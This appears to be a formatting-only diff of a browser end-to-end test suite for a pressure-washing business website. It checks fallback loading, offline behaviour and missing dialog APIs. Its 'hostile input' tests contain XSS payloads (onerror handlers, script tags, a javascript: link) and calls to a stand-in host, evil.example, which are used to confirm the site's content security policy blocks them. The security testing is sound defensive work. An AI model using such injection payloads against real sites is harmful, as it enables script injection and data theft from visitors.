@@ -18,10 +18,15 @@ import {
 const documentsAsked = (visitor: Visitor, path: string) =>
   visitor.requests.filter((address) => address === siteUrl + path).length;
 const waitForHeading = (page: Page, text: string) =>
-  page.waitForFunction((wanted) => document.querySelector('h1')?.textContent === wanted, {}, text);
+  page.waitForFunction(
+    (wanted) => document.querySelector('h1')?.textContent === wanted,
+    {},
+    text,
+  );
 
 /** Asks for another page without waiting for it, since it may not come. */
-const clickLink = (page: Page, path: string) => press(page, `footer a[href="${path}"]`);
+const clickLink = (page: Page, path: string) =>
+  press(page, `footer a[href="${path}"]`);
 
 describe('a script that a new deployment has replaced', () => {
   const servicesScript = '*/assets/ServicesPage-*.js';
@@ -50,14 +55,17 @@ describe('a script that a new deployment has replaced', () => {
       const { page } = visitor;
       if (isBlocked) await blockStorage(page, 'sessionStorage');
       await answerRequests(page, servicesScript, () => ({ status: 404 }));
-      if (start === paths.services) await page.goto(siteUrl + start, { waitUntil: 'load' });
+      if (start === paths.services)
+        await page.goto(siteUrl + start, { waitUntil: 'load' });
       else {
         await visitor.open(start);
         await clickLink(page, paths.services);
       }
       await waitForText(page, 'Part of this page did not load');
       expect(await readText(page, 'h1')).toBe('Our Services');
-      expect(await page.$$eval('main h3', (titles) => titles.length)).toBeGreaterThan(8);
+      expect(
+        await page.$$eval('main h3', (titles) => titles.length),
+      ).toBeGreaterThan(8);
       const asked = documentsAsked(visitor, paths.services);
       await wait(1000);
       expect(documentsAsked(visitor, paths.services)).toBe(asked);
@@ -71,17 +79,26 @@ describe('generated content that is', () => {
     ['missing', { status: 404 }],
     [
       'a web page',
-      { status: 200, headers: { 'Content-Type': 'text/html' }, body: '<!doctype html><title>Hello</title>' },
+      {
+        status: 200,
+        headers: { 'Content-Type': 'text/html' },
+        body: '<!doctype html><title>Hello</title>',
+      },
     ],
     ['of another shape', { status: 200, body: '{"bodyHtml":null}' }],
-  ])('%s makes the browser load the page in full, which carries its content', async (_fault, answer) => {
-    const { page } = await arrive({ path: paths.areas });
-    await answerRequests(page, '*/content/*', () => answer);
-    await clickLink(page, paths.town('exeter'));
-    await waitForHeading(page, 'Pressure Washing in Exeter');
-    expect(await page.title()).toContain('Exeter');
-    expect(await page.$eval('main', (main) => main.textContent!.length)).toBeGreaterThan(2000);
-  });
+  ])(
+    '%s makes the browser load the page in full, which carries its content',
+    async (_fault, answer) => {
+      const { page } = await arrive({ path: paths.areas });
+      await answerRequests(page, '*/content/*', () => answer);
+      await clickLink(page, paths.town('exeter'));
+      await waitForHeading(page, 'Pressure Washing in Exeter');
+      expect(await page.title()).toContain('Exeter');
+      expect(
+        await page.$eval('main', (main) => main.textContent!.length),
+      ).toBeGreaterThan(2000);
+    },
+  );
 });
 
 test('without a connection the visitor keeps the site, a phone number and a page that opens by itself', async () => {
@@ -100,30 +117,42 @@ test('a browser without popovers and dialogs shows a service where it stands, an
   const { page, open, complaints } = await arrive({ viewport: phone });
   await page.evaluateOnNewDocument(() => {
     for (const name of ['showPopover', 'hidePopover', 'togglePopover'])
-      delete (HTMLElement.prototype as unknown as Record<string, unknown>)[name];
+      delete (HTMLElement.prototype as unknown as Record<string, unknown>)[
+        name
+      ];
     for (const name of ['showModal', 'show', 'close'])
-      delete (HTMLDialogElement.prototype as unknown as Record<string, unknown>)[name];
+      delete (
+        HTMLDialogElement.prototype as unknown as Record<string, unknown>
+      )[name];
   });
   await open(paths.services);
   await page.$$eval('main button', (buttons) =>
-    buttons.find((button) => button.textContent!.includes('More Info'))!.click(),
+    buttons
+      .find((button) => button.textContent!.includes('More Info'))!
+      .click(),
   );
   await page.waitForFunction(
     () =>
       document.querySelector('dialog')?.checkVisibility() &&
       document.querySelector('dialog')!.textContent!.includes('Our Process'),
   );
-  await page.$eval('dialog button[aria-label="Close dialog"]', (button) => (button as HTMLButtonElement).click());
+  await page.$eval('dialog button[aria-label="Close dialog"]', (button) =>
+    (button as HTMLButtonElement).click(),
+  );
   await page.waitForFunction(() => !document.querySelector('dialog'));
   await clickLink(page, paths.guarantee);
-  await page.waitForFunction(() => location.pathname === '/guarantee' && document.querySelector('h1'));
+  await page.waitForFunction(
+    () => location.pathname === '/guarantee' && document.querySelector('h1'),
+  );
   expect(complaints).toEqual([]);
 });
 
 describe('hostile input', () => {
   test('markup in the query or the fragment stays text', async () => {
     const { page, open, complaints } = await arrive();
-    const markup = encodeURI('<img src=x onerror="document.title=`run`"><script>document.title=`run`</script>');
+    const markup = encodeURI(
+      '<img src=x onerror="document.title=`run`"><script>document.title=`run`</script>',
+    );
     await open(`/?q=${markup}#${markup}`);
     await open('/#%E0%A4%A');
     await open('/#"]');
@@ -135,7 +164,9 @@ describe('hostile input', () => {
     const { page } = await arrive({ path: paths.home });
     const outcome = await page.evaluate(async () => {
       const blocked: string[] = [];
-      addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
+      addEventListener('securitypolicyviolation', (event) =>
+        blocked.push(event.effectiveDirective),
+      );
       const refused: string[] = [];
       const attempt = (name: string, action: () => void) => {
         try {
@@ -144,33 +175,72 @@ describe('hostile input', () => {
           refused.push(name);
         }
       };
-      const put = (tag: string) => document.body.appendChild(document.createElement(tag));
+      const put = (tag: string) =>
+        document.body.appendChild(document.createElement(tag));
       attempt('markup', () =>
-        document.body.insertAdjacentHTML('beforeend', '<img src="/none.png" onerror="window.ran = true">'),
+        document.body.insertAdjacentHTML(
+          'beforeend',
+          '<img src="/none.png" onerror="window.ran = true">',
+        ),
       );
-      attempt('parsed text', () => new DOMParser().parseFromString('<img src="/none.png">', 'text/html'));
-      attempt('handler', () => put('img').setAttribute('onerror', 'window.ran = true'));
-      attempt('script', () => (put('script').textContent = 'window.ran = true'));
-      attempt('foreign script', () => ((put('script') as HTMLScriptElement).src = 'https://evil.example/x.js'));
+      attempt('parsed text', () =>
+        new DOMParser().parseFromString('<img src="/none.png">', 'text/html'),
+      );
+      attempt('handler', () =>
+        put('img').setAttribute('onerror', 'window.ran = true'),
+      );
+      attempt(
+        'script',
+        () => (put('script').textContent = 'window.ran = true'),
+      );
+      attempt(
+        'foreign script',
+        () =>
+          ((put('script') as HTMLScriptElement).src =
+            'https://evil.example/x.js'),
+      );
       attempt('another gate', () =>
-        (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes //
+        (
+          window as unknown as {
+            trustedTypes: { createPolicy(name: string, rules: object): void };
+          }
+        ).trustedTypes //
           .createPolicy('other', {}),
       );
       const link = put('a') as HTMLAnchorElement;
       link.href = 'javascript:window.ran = true';
       link.click();
-      const sent = await fetch('https://evil.example/', { mode: 'no-cors' }).then(
+      const sent = await fetch('https://evil.example/', {
+        mode: 'no-cors',
+      }).then(
         () => true,
         () => false,
       );
       await new Promise((resolve) => setTimeout(resolve, 500));
-      return { ran: 'ran' in window, sent, refused, blocked: [...new Set(blocked)].sort() };
+      return {
+        ran: 'ran' in window,
+        sent,
+        refused,
+        blocked: [...new Set(blocked)].sort(),
+      };
     });
     expect(outcome).toEqual({
       ran: false,
       sent: false,
-      refused: ['markup', 'parsed text', 'handler', 'script', 'foreign script', 'another gate'],
-      blocked: ['connect-src', 'require-trusted-types-for', 'script-src-elem', 'trusted-types'],
+      refused: [
+        'markup',
+        'parsed text',
+        'handler',
+        'script',
+        'foreign script',
+        'another gate',
+      ],
+      blocked: [
+        'connect-src',
+        'require-trusted-types-for',
+        'script-src-elem',
+        'trusted-types',
+      ],
     });
   });
 });
